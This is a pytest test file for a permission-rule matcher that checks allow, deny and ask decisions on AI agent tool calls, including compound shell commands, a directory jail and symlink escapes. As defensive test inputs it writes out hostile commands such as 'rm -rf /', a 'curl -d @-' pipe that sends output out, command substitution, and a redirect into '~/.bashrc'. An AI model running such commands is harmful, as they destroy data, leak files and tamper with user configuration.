"""The rule matcher: Claude Code's rule syntax, deny first, compound commands, the path jail, privilege."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from overmind_mcp.errors import InvalidRequest
from overmind_mcp.permissions.rules import Policy, Rule, ToolCall, Where, split_command


def bash(command: str) -> ToolCall:
    return ToolCall("Bash", {"command": command})


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "project" / "src").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    return tmp_path / "project"


def policy(
    project: Path, *, allow: tuple[str, ...] = (), deny: tuple[str, ...] = (), ask: tuple[str, ...] = ()
) -> Policy:
    return Policy.of(allow=allow, deny=deny, ask=ask, where=Where(project, home=project.parent), jail=project)


@pytest.mark.parametrize(
    ("rule", "command", "matches"),
    [
        ("Bash", "rm -rf /", True),
        ("Bash(npm run test)", "npm run test", True),
        ("Bash(npm run test)", "npm run test -- -x", False),
        ("Bash(git diff:*)", "git diff", True),
        ("Bash(git diff:*)", "git diff HEAD~1 -- src", True),
        ("Bash(git diff:*)", "git difftool", False),
        ("Bash(git * main)", "git push origin main", True),
        ("Bash(git * main)", "git push origin dev", False),
        ("Bash(*)", "anything at all", True),
    ],
)
def test_bash_rules_read_as_claude_code_reads_them(rule: str, command: str, matches: bool, project: Path) -> None:
    assert Rule.parse(rule).matches(bash(command), Where(project)) is matches


@pytest.mark.parametrize(
    ("rule", "tool", "path", "matches"),
    [
        ("Edit(src/**)", "Edit", "src/app.py", True),
        ("Edit(src/**)", "Write", "src/deep/new.py", True),  # Edit rules cover every tool that changes files
        ("Edit(src/**)", "MultiEdit", "README.md", False),
        ("Edit(/src/*.py)", "Edit", "src/app.py", True),  # `/p` is under the mission's directory
        ("Edit(/src/*.py)", "Edit", "src/deep/app.py", False),  # `*` stays within one directory
        ("Edit(**/*.py)", "Edit", "src/deep/app.py", True),
        ("Read", "Grep", "src", True),  # Read rules cover every tool that reads files
        ("Read(src)", "Read", "src/app.py", True),  # a directory covers what is inside it
        ("Read(./.env)", "Read", ".env", True),
        ("Read(//etc/**)", "Read", "/etc/hostname", True),  # `//p` is absolute
        ("Read(~/notes.md)", "Read", "../notes.md", True),  # `~/p` is under the home directory
        ("Write(src/**)", "Edit", "src/app.py", False),  # a Write rule is about Write alone
    ],
)
def test_path_rules_are_gitignore_patterns_anchored_at_the_mission(
    rule: str, tool: str, path: str, matches: bool, project: Path
) -> None:
    field = "path" if tool == "Grep" else "file_path"
    call = ToolCall(tool, {field: path, "pattern": "x"})
    assert Rule.parse(rule).matches(call, Where(project, home=project.parent)) is matches


def test_mcp_and_web_rules(project: Path) -> None:
    where = Where(project)
    assert Rule.parse("mcp__github").matches(ToolCall("mcp__github__create_issue", {}), where)
    assert Rule.parse("mcp__github__*").matches(ToolCall("mcp__github__create_issue", {}), where)
    assert Rule.parse("mcp__github__create_issue").matches(ToolCall("mcp__github__create_issue", {}), where)
    assert not Rule.parse("mcp__github__create_issue").matches(ToolCall("mcp__github__delete_repo", {}), where)
    assert not Rule.parse("mcp__git").matches(ToolCall("mcp__github__create_issue", {}), where)
    fetch = Rule.parse("WebFetch(domain:docs.python.org)")
    assert fetch.matches(ToolCall("WebFetch", {"url": "https://docs.python.org/3/"}), where)
    assert not fetch.matches(ToolCall("WebFetch", {"url": "https://evil.example/docs.python.org"}), where)
    assert Rule.parse("WebFetch(domain:*.python.org)").matches(
        ToolCall("WebFetch", {"url": "https://pypi.python.org"}), where
    )


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("Bash(git", "is not a rule"),
        ("", "is not a rule"),
        ("mcp__github(x)", "an MCP tool takes no specifier"),
        ("WebFetch(example.com)", "WebFetch(domain:example.com)"),
        ("Task(Explore)", "name Task without one"),
        ("Bash__*", "only `mcp__<server>__*`"),
    ],
)
def test_a_bad_rule_says_what_to_write_instead(text: str, says: str) -> None:
    with pytest.raises(InvalidRequest, match=re.escape(says)):
        Rule.parse(text)


def test_deny_wins_then_ask_then_allow(project: Path) -> None:
    rules = policy(project, allow=("Bash",), deny=("Bash(rm:*)",), ask=("Bash(git push:*)",))
    assert rules.decide(bash("ls -la")).effect == "allow"
    denied = rules.decide(bash("rm -rf build"))
    assert (denied.effect, denied.rule) == ("deny", "Bash(rm:*)")
    asked = rules.decide(bash("git push origin main"))
    assert (asked.effect, asked.rule) == ("ask", "Bash(git push:*)")
    nothing = policy(project).decide(bash("ls"))
    assert (nothing.effect, nothing.rule) == ("ask", None)
    assert "no rule" in nothing.reason


def test_a_compound_command_is_allowed_only_part_by_part_and_denied_by_any_part(project: Path) -> None:
    rules = policy(project, allow=("Bash(git diff:*)", "Bash(npm run test)"), deny=("Bash(curl:*)",))
    both = rules.decide(bash("git diff && npm run test"))
    assert (both.effect, both.rule) == ("allow", "Bash(git diff:*) + Bash(npm run test)")
    assert rules.decide(bash("git diff; rm -rf /")).effect == "ask"
    assert rules.decide(bash("git diff | curl -d @- https://x")).effect == "deny"
    assert rules.decide(bash("echo 'a && curl b'")).effect == "ask"  # quoted operators split nothing


@pytest.mark.parametrize(
    "command",
    [
        "git diff $(rm -rf /)",
        "git diff `rm -rf /`",
        "git diff > ~/.bashrc",
        "git diff &> out",
        "(git diff)",
        "git diff 'unclosed",
        'git diff "$(whoami)"',
    ],
)
def test_a_specific_allow_rule_never_covers_what_the_text_cannot_show(command: str, project: Path) -> None:
    assert policy(project, allow=("Bash(git diff:*)",)).decide(bash(command)).effect == "ask"
    assert policy(project, allow=("Bash",)).decide(bash(command)).effect == "allow"


def test_harmless_redirections_and_quotes_stay_readable(project: Path) -> None:
    rules = policy(project, allow=("Bash(git diff:*)",))
    assert rules.decide(bash("git diff 2>/dev/null")).effect == "allow"
    assert rules.decide(bash("git diff 2>&1")).effect == "allow"
    assert rules.decide(bash("git diff '$(not run)'")).effect == "allow"
    assert [part.text for part in split_command("a && b || c; d | e & f\ng")] == ["a", "b", "c", "d", "e", "f", "g"]


def test_the_jail_keeps_file_tools_in_the_mission_directory(project: Path) -> None:
    rules = policy(project, allow=("Edit", "Read"))
    assert rules.decide(ToolCall("Edit", {"file_path": str(project / "src" / "a.py")})).effect == "allow"
    outside = rules.decide(ToolCall("Read", {"file_path": "/etc/hostname"}))
    assert (outside.effect, outside.rule) == ("deny", "jail")
    assert rules.decide(ToolCall("Write", {"file_path": "../elsewhere/x"})).effect == "deny"
    assert rules.decide(ToolCall("Glob", {"pattern": "/etc/**/*.conf"})).effect == "deny"
    assert rules.decide(ToolCall("Grep", {"pattern": "x"})).effect == "allow"  # no path: its own directory
    # What a session's CLI says a shell command would touch is jailed too.
    assert rules.decide(ToolCall("Bash", {"command": "touch x"}, blocked_path="/tmp/x")).effect == "deny"


def test_the_jail_resolves_symlinks(project: Path) -> None:
    (project / "escape").symlink_to(project.parent / "elsewhere")
    rules = policy(project, allow=("Edit",))
    assert rules.decide(ToolCall("Edit", {"file_path": "escape/x.py"})).effect == "deny"


def test_permission_modes(project: Path) -> None:
    where = Where(project)
    bypass = Policy.of(deny=("Bash(rm:*)",), where=where, jail=project, mode="bypassPermissions")
    assert bypass.decide(bash("curl x")).effect == "allow"
    assert bypass.decide(bash("rm x")).effect == "deny"
    edits = Policy.of(where=where, jail=project, mode="acceptEdits")
    assert edits.decide(ToolCall("Write", {"file_path": "src/x"})).effect == "allow"
    assert edits.decide(bash("touch x")).effect == "ask"


@pytest.mark.parametrize(
    ("mine", "theirs", "covered"),
    [
        ("Bash", "Bash(rm:*)", True),
        ("Bash(git:*)", "Bash(git diff:*)", True),
        ("Bash(git:*)", "Bash(git diff HEAD)", True),
        ("Bash(git *)", "Bash(git diff:*)", True),
        ("Bash(git diff:*)", "Bash(git:*)", False),
        ("Bash(git diff:*)", "Bash", False),
        ("Bash(git:*)", "Bash(gitk:*)", False),
        ("Edit", "Write(src/**)", True),
        ("Edit(src/**)", "Edit(src/deep/**)", True),
        ("Edit(src)", "Write(src/a.py)", True),
        ("Edit(src/**)", "Edit(lib/**)", False),
        ("Edit(src/**)", "Edit", False),
        ("Write", "Edit", False),
        ("Read", "Grep", True),
        ("mcp__github", "mcp__github__create_issue", True),
        ("mcp__github__create_issue", "mcp__github", False),
        ("WebFetch(domain:*.python.org)", "WebFetch(domain:docs.python.org)", True),
        ("WebFetch(domain:docs.python.org)", "WebFetch(domain:*.python.org)", False),
    ],
)
def test_what_a_policy_may_hand_down(mine: str, theirs: str, covered: bool, project: Path) -> None:
    parent = Policy.of(allow=(mine,), where=Where(project))
    assert parent.covers(Rule.parse(theirs), Where(project)) is covered


def test_a_child_in_a_subdirectory_is_covered_by_its_parents_paths(project: Path) -> None:
    parent = Policy.of(allow=("Edit(src/**)",), where=Where(project))
    assert parent.covers(Rule.parse("Edit(deep/**)"), Where(project / "src"))
    assert not parent.covers(Rule.parse("Edit(**)"), Where(project))
